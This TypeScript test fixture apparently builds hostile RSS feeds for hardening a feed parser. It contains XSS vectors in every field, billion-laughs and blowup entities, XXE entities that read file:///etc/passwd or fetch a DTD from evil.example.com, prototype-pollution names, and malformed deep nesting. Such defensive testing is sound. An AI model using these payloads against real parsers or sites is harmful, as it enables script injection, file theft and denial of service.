import { TRAP } from './payloads.ts';

const CALL = `${TRAP}(1)`;
const IMAGE = `<img src=x onerror=${CALL}>`;
const CONTENT = 'xmlns:content="http://purl.org/rss/1.0/modules/content/"';

const feed = (item: string, { head = '', channel = '', root = '' } = {}) =>
  `${head}<rss version="2.0" ${CONTENT} ${root}><channel><title>N</title><link>https://n.example.com</link>${channel}${item}</channel></rss>`;
const item = (inside: string) => `<item><title>T</title><link>https://n.example.com/1</link>${inside}</item>`;
const cdata = (text: string) => `<![CDATA[${text}]]>`;
const escaped = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;');

const doctype = (entities: string) => `<?xml version="1.0"?><!DOCTYPE rss [${entities}]>`;
const laughs = (levels: number) =>
  Array.from({ length: levels }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

/** Items with markup in every field, in every way that XML can carry text. */
const FIELDS = ['title', 'description', 'content:encoded', 'link', 'guid', 'pubDate', 'author', 'category'].flatMap(
  (tag) => [
    feed(item(`<${tag}>${cdata(IMAGE)}</${tag}>`)),
    feed(item(`<${tag}>${escaped(IMAGE)}</${tag}>`)),
    feed(item(`<${tag}><img src="x" onerror="${CALL}"/></${tag}>`)),
  ],
);

const LINKS = [
  'javascript:',
  'JAVASCRIPT:',
  'data:text/html,<script>',
  'vbscript:',
  'file:///etc/',
  'http://[',
  '//',
].map((scheme) =>
  feed(
    `<item><title>T</title><link>${cdata(`${scheme}${CALL}`)}</link><description>${cdata('<a href="?x">a</a><img src="y">')}</description></item>`,
  ),
);

const ENTITIES = [
  feed(item('<description>&l9;</description>'), { head: doctype(`<!ENTITY l0 "lol">${laughs(9)}`) }),
  feed(item(`<title>${'&a;'.repeat(10_000)}</title>`), { head: doctype(`<!ENTITY a "${'a'.repeat(10_000)}">`) }),
  feed(item('<description>&x;</description>'), { head: doctype('<!ENTITY x SYSTEM "file:///etc/passwd">') }),
  feed(item('<description>&x;</description>'), { head: doctype('<!ENTITY x SYSTEM "https://evil.example.com/x">') }),
  feed(item('<description>a</description>'), {
    head: doctype('<!ENTITY % p SYSTEM "https://evil.example.com/p"> %p;'),
  }),
  feed(item('<description>&a;</description>'), { head: doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">') }),
  feed(item(`<description>&x;</description>`), { head: doctype(`<!ENTITY x "${escaped(IMAGE)}">`) }),
  feed(item('<title>&#0;&#xD800;&#x110000;&#99999999999;&nosuch;</title>')),
  feed(item(`<title>${'&amp;lt;'.repeat(20_000)}</title>`)),
  feed(item(`<title>${'&'.repeat(50_000)}</title>`)),
];

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  ':@',
  '#text',
  '__proto__:encoded',
].map((name) => feed(`<item><title>T</title><${name}><polluted>1</polluted></${name}></item>`));
const ATTRIBUTES = ['__proto__', 'constructor', 'isPermaLink', 'xmlns:content'].map((name) =>
  feed(item(`<guid ${name}="${escaped(IMAGE)}">https://n.example.com/2</guid>`)),
);

const SHAPES = [
  feed(`${'<item>'.repeat(5000)}${'</item>'.repeat(5000)}`),
  feed('<item/>'.repeat(2000)),
  feed(item(`<description>${'<div>'.repeat(3000)}</description>`)),
  feed(item(`<description>${cdata('<div>'.repeat(3000))}</description>`)),
  feed(item('<description><![CDATA[ never closed')),
  feed('<item><title>a</item></title>'),
  feed('<!-- <item>'),
  feed(`${'<![CDATA['.repeat(20_000)}`),
  feed(`<item>${'<![CDATA[]]>'.repeat(20_000)}</item>`),
  feed(item(`<title>${'a'.repeat(200_000)}</title>`)),
  feed(item(`<title>\u0000\u0001\u0008\u001F\uFFFE\uFFFF${IMAGE}</title>`)),
  feed(item(`<title>\u202E\u2066${escaped(IMAGE)}</title>`)),
  feed(item(`<description>${cdata(`]]${IMAGE}`)}</description>`)),
  `${feed(item(''))}<script>${CALL}</script>${feed(item('<description>second</description>'))}`,
  `<?xml-stylesheet type="text/xsl" href="javascript:${CALL}"?>${feed(item(''))}`,
  `<html><body>${IMAGE}${feed(item(''))}</body></html>`,
  `<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>${escaped(IMAGE)}</title></entry></feed>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
  feed(item(`<description>${cdata(IMAGE)}</description>`), { root: `onload="${CALL}" xmlns:__proto__="x"` }),
  feed(item(''), { channel: `<image><url>javascript:${CALL}</url></image><link>javascript:${CALL}</link>` }),
];

/** Feeds that attack the code that reads them. */
export const hostileFeeds: string[] = [...FIELDS, ...LINKS, ...ENTITIES, ...NAMES, ...ATTRIBUTES, ...SHAPES];
